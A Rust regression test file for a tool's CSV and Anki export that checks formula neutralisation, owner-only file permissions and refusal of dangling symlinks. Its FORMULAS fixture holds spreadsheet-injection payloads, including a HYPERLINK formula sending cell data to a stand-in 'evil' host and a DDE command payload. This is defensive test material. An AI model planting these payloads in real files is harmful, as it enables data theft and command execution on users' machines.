//! Regression tests for the third outside attack on `grill export` (issue
//! 25, items 3, 9 and 10): spreadsheet formulas in a cohort's answers, an
//! export that followed the umask, a dangling symlink at `--out`.

use serde_json::json;

use super::grade::BANK;
use crate::common::Env;

/// Answers a spreadsheet would run, as the attack sent them.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tleading tab, then =1+1",
    "\u{ff1d}1+1 in fullwidth",
];

/// A home holding a cohort's answers graded offline with `grade --batch`.
fn cohort(answers: &[&str]) -> Env {
    let env = Env::new();
    env.write("bank/testing.toml", BANK);
    let lines: String = answers
        .iter()
        .map(|a| json!({"question": "tq", "answer": a}).to_string() + "\n")
        .collect();
    env.write("cohort.jsonl", &lines);
    let out = env.run(&[
        "--bank",
        "bank",
        "--offline",
        "grade",
        "--batch",
        "cohort.jsonl",
    ]);
    assert_eq!(out.code, 0, "{out:?}");
    env
}

/// The `answer` column of a history CSV.
fn answers_of(csv_text: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let at = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "answer")
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap()[at].to_string())
        .collect()
}

// 3. Formula cells are neutralised with a leading `'`; `--allow-formulas` keeps them.
#[test]
fn a_cohorts_formula_answers_are_neutralised_in_the_csv() {
    let env = cohort(&FORMULAS);
    let out = env.run(&["--bank", "bank", "export", "--format", "csv"]);
    assert_eq!(out.code, 0, "{out:?}");
    let expected: Vec<String> = FORMULAS.iter().map(|a| format!("'{a}")).collect();
    assert_eq!(answers_of(&out.stdout), expected);
    // No line of the file starts a cell with a formula character.
    for line in out.stdout.lines() {
        for field in line.split(',') {
            let field = field.trim_start_matches('"');
            assert!(!field.starts_with(['=', '+', '-', '@', '\t']), "{line}");
        }
    }

    let out = env.run(&[
        "--bank",
        "bank",
        "export",
        "--format",
        "csv",
        "--allow-formulas",
    ]);
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(answers_of(&out.stdout), FORMULAS);

    let out = env.run(&["export", "--format", "anki", "--allow-formulas"]);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("--allow-formulas"), "{out:?}");
}

// 9. An export is readable by its owner only, whatever the umask.
#[cfg(unix)]
#[test]
fn exports_are_created_0600_under_umask_000() {
    use std::os::unix::fs::PermissionsExt;
    let env = cohort(&["Tests catch regressions."]);
    for format in ["csv", "anki"] {
        let name = format!("export.{format}");
        let out = env.run_umask(
            "000",
            &[
                "--bank", "bank", "export", "--format", format, "--out", &name,
            ],
        );
        assert_eq!(out.code, 0, "{out:?}");
        let mode = std::fs::metadata(env.path(&name))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, 0o600, "{format}: {mode:o}");
    }
    // The database it was read from is 0600 too, under the same umask.
    let mode = std::fs::metadata(env.db()).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
}

// 10. A dangling symlink at `--out` is refused without `--force`, and
//     replaced, not written through, with it.
#[cfg(unix)]
#[test]
fn a_dangling_symlink_at_out_is_refused_without_force() {
    let env = cohort(&["Tests catch regressions."]);
    let target = env.path("elsewhere/target.csv");
    std::os::unix::fs::symlink(&target, env.path("history.csv")).unwrap();
    let args = ["export", "--format", "csv", "--out", "history.csv"];
    let out = env.run(&args);
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("already exists"), "{out:?}");
    assert!(out.stderr.contains("--force"), "{out:?}");
    let link = std::fs::symlink_metadata(env.path("history.csv")).unwrap();
    assert!(link.file_type().is_symlink(), "the link is left as it was");
    assert!(!target.exists());

    let mut forced = args.to_vec();
    forced.push("--force");
    let out = env.run(&forced);
    assert_eq!(out.code, 0, "{out:?}");
    let link = std::fs::symlink_metadata(env.path("history.csv")).unwrap();
    assert!(link.file_type().is_file(), "replaced by a file");
    assert!(!target.exists(), "never written through");
}
